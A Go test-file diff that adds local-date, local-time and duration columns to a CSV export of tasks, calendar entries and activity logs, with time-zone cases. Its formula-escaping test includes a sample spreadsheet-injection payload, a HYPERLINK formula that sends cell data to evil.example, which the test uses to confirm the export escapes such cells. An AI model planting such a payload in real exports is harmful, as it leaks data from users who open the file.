@@ -34,6 +34,7 @@ func TestCSVRecordIsEncodingCSV(t *testing.T) {
 	for i := range EventFields {
 		names = append(names, EventFields[i].Name)
 	}
+	names = append(names, "local_date", "local_start", "local_end", "minutes")
 	if got, want := string(AppendCSVHeader(nil)), csvLine(t, names); got != want {
 		t.Errorf("header %q, want %q", got, want)
 	}
@@ -64,7 +65,8 @@ func TestCSVRecordIsEncodingCSV(t *testing.T) {
 				cells = append(cells, strconv.FormatInt(f.Int(&e), 10))
 			}
 		}
-		if got, want := string(AppendCSVRecord(nil, &e, CSVFormulasRaw)), csvLine(t, cells); got != want {
+		cells = append(cells, "2026-11-22", "2026-11-22 03:04", "", "") // a task's due time, in UTC
+		if got, want := string(AppendCSVRecord(nil, &e, CSVOptions{Formulas: CSVFormulasRaw, Loc: time.UTC})), csvLine(t, cells); got != want {
 			t.Errorf("text %q:\n%q\nwant\n%q", text, got, want)
 		}
 	}
@@ -89,6 +91,10 @@ func FuzzCSVField(f *testing.F) {
 // CSVFormulasRaw every cell is as stored. Other text, and every time,
 // number and boolean cell, is as it was.
 func TestCSVFormulasAreEscaped(t *testing.T) {
+	seoul, err := LoadZone("Asia/Seoul")
+	if err != nil {
+		t.Fatal(err)
+	}
 	at := time.Date(2026, 11, 22, 3, 4, 5, 0, time.UTC)
 	for _, text := range []string{
 		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "=1+2",
@@ -129,9 +135,73 @@ func TestCSVFormulasAreEscaped(t *testing.T) {
 			if formulas == CSVFormulasEscaped && formula && escaped != 4 {
 				t.Fatalf("%q: %d text columns hold it, want title, description, project_tag and source_ref", text, escaped)
 			}
-			if got, want := string(AppendCSVRecord(nil, &e, formulas)), csvLine(t, cells); got != want {
+			cells = append(cells, "2026-11-22", "2026-11-22 12:04", "", "") // in Seoul: no formula to escape
+			if got, want := string(AppendCSVRecord(nil, &e, CSVOptions{Formulas: formulas, Loc: seoul})), csvLine(t, cells); got != want {
 				t.Errorf("%q (formulas %d):\n%q\nwant\n%q", text, formulas, got, want)
 			}
+		}
+	}
+}
+
+// TestCSVLocalColumns: the columns after the JSON fields say where each
+// kind of event sits in the request's zone: local_date, local_start and
+// local_end as YYYY-MM-DD HH:MM (dates alone for an all-day entry, its
+// last day inclusive, and for a task's due day without a time, both read
+// in the service's zone whatever the request's), and minutes, the span's
+// length rounded to the minute, empty without an end.
+func TestCSVLocalColumns(t *testing.T) {
+	seoul, err := LoadZone("Asia/Seoul")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ny, err := LoadZone("America/New_York")
+	if err != nil {
+		t.Fatal(err)
+	}
+	at := func(s string) *time.Time {
+		tm, err := time.Parse(time.RFC3339Nano, s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return &tm
+	}
+	dueDay := EndOfDay(2026, 11, 24, seoul)
+	for _, c := range []struct {
+		name string
+		e    Event
+		loc  *time.Location
+		want string
+	}{
+		{"task due", Event{Kind: KindTask, DueAt: at("2026-11-23T06:30:00Z")}, seoul, "2026-11-23,2026-11-23 15:30,,"},
+		{"task due, in New York", Event{Kind: KindTask, DueAt: at("2026-11-23T06:30:00Z")}, ny, "2026-11-23,2026-11-23 01:30,,"},
+		{"task due a day without a time", Event{Kind: KindTask, DueAt: &dueDay}, seoul, "2026-11-24,2026-11-24,,"},
+		{"task due a day, in New York", Event{Kind: KindTask, DueAt: &dueDay}, ny, "2026-11-24,2026-11-24,,"},
+		{"task with a start only", Event{Kind: KindTask, StartAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,2026-11-23 09:00,,"},
+		{"task without a time", Event{Kind: KindTask}, seoul, ",,,"},
+		{"calendar entry", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T05:00:00Z"), EndAt: at("2026-11-23T06:30:00Z")}, seoul,
+			"2026-11-23,2026-11-23 14:00,2026-11-23 15:30,90"},
+		{"calendar entry across midnight", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T14:30:00Z"), EndAt: at("2026-11-23T15:30:00Z")}, seoul,
+			"2026-11-23,2026-11-23 23:30,2026-11-24 00:30,60"},
+		{"calendar entry without an end", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T05:00:00Z")}, seoul, "2026-11-23,2026-11-23 14:00,,"},
+		{"all-day entry", Event{Kind: KindCalendarEvent, AllDay: true, StartAt: at("2026-11-23T15:00:00Z"), EndAt: at("2026-11-24T15:00:00Z")}, seoul,
+			"2026-11-24,2026-11-24,2026-11-24,1440"},
+		{"all-day entry of three days, in New York", Event{Kind: KindCalendarEvent, AllDay: true, StartAt: at("2026-12-02T15:00:00Z"), EndAt: at("2026-12-05T15:00:00Z")}, ny,
+			"2026-12-03,2026-12-03,2026-12-05,4320"},
+		{"log", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:00Z"), EndedAt: at("2026-11-23T00:45:00Z")}, seoul,
+			"2026-11-23,2026-11-23 09:00,2026-11-23 09:45,45"},
+		{"log of 29.5 s past the minute", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:10Z"), EndedAt: at("2026-11-23T00:30:39.5Z")}, seoul,
+			"2026-11-23,2026-11-23 09:00,2026-11-23 09:30,30"},
+		{"log of 30 s past the minute", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:10Z"), EndedAt: at("2026-11-23T00:30:40Z")}, seoul,
+			"2026-11-23,2026-11-23 09:00,2026-11-23 09:30,31"},
+		{"running log", Event{Kind: KindActivityLog, Status: StatusInProgress, StartedAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,2026-11-23 09:00,,"},
+		{"log with an end only", Event{Kind: KindActivityLog, Status: StatusDone, EndedAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,,2026-11-23 09:00,"},
+		{"log of an instant", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:00Z"), EndedAt: at("2026-11-23T00:00:00Z")}, seoul,
+			"2026-11-23,2026-11-23 09:00,2026-11-23 09:00,0"},
+	} {
+		line := string(AppendCSVRecord(nil, &c.e, CSVOptions{Loc: c.loc, DayLoc: seoul}))
+		cells := strings.Split(strings.TrimSuffix(line, "\r\n"), ",")
+		if got := strings.Join(cells[len(cells)-4:], ","); got != c.want {
+			t.Errorf("%s: %q, want %q", c.name, got, c.want)
 		}
 	}
 }
